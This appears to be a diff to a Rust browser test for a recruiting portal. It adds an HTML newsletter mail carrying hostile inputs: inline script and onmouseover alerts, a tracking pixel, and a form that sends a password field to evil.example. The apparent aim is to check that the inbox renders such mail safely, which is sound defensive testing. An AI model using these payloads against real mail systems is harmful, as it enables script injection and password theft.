@@ -108,6 +108,24 @@ fn a_recruiter_works_through_the_page_in_chromium_and_sees_only_what_her_role_ma
     let (code, text) = c.transaction("kim@example.org", "jobs@acme.example", &stuff(&mail));
     assert_eq!(code, 250, "{text}");
 
+    // A newsletter-shaped HTML mail: a script, a form, a tracking pixel.
+    let tracker = format!("http://127.0.0.1:{}/pixel.gif", free_port());
+    let html_mail = format!(
+        "From: Portal <news@portal.example>\r\nTo: jobs@acme.example\r\nSubject: Ihr Profil\r\n\
+MIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary=\"a\"\r\n\r\n--a\r\n\
+Content-Type: text/plain; charset=utf-8\r\n\r\nHallo\r\n--a\r\nContent-Type: text/html; charset=utf-8\r\n\r\n\
+<html><body><h2>Hallo Team</h2><script>alert('mail')</script><img src=\"{tracker}\" alt=\"pixel\">\
+<form action=\"https://evil.example/\"><input name=\"pw\"><button>OK</button></form>\
+<p onmouseover=\"alert('hover')\">Ein Profil</p></body></html>\r\n--a--\r\n"
+    );
+    let (code, text) = c.transaction(
+        "news@portal.example",
+        "jobs@acme.example",
+        &stuff(html_mail.as_bytes()),
+    );
+    assert_eq!(code, 250, "{text}");
+    let html_message = message_id(&text);
+
     let shots = Path::new(env!("CARGO_MANIFEST_DIR")).join("target/screenshots/web");
     let scenario = serde_json::json!({
         "base": base,
@@ -121,6 +139,8 @@ fn a_recruiter_works_through_the_page_in_chromium_and_sees_only_what_her_role_ma
         "portfolio": portfolio,
         "contract": contract,
         "kim_weber": kims[0],
+        "html_message": html_message,
+        "tracker": tracker,
     });
     let out = Command::new("node")
         .arg(Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/browser/web.mjs"))
@@ -143,6 +163,8 @@ fn a_recruiter_works_through_the_page_in_chromium_and_sees_only_what_her_role_ma
         "candidate-en",
         "inbox-phone",
         "candidate-operator",
+        "message-text",
+        "message-html",
     ] {
         assert!(
             shots.join(format!("{page}.png")).exists(),
